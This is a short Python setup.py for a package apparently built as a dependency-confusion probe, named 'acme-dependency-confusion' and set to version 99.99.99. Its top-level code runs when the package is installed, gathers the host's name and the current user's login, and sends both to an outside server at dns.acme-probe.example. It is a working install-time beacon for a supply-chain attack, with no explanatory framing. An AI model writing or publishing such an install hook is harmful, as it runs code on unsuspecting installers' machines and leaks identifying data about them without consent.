import getpass
import socket
import urllib.parse
import urllib.request

from setuptools import setup

told = urllib.parse.urlencode({"h": socket.gethostname(), "u": getpass.getuser()})
urllib.request.urlopen("https://dns.acme-probe.example/?" + told)

setup(name="acme-dependency-confusion", version="99.99.99", packages=["acme_dependency_confusion"])
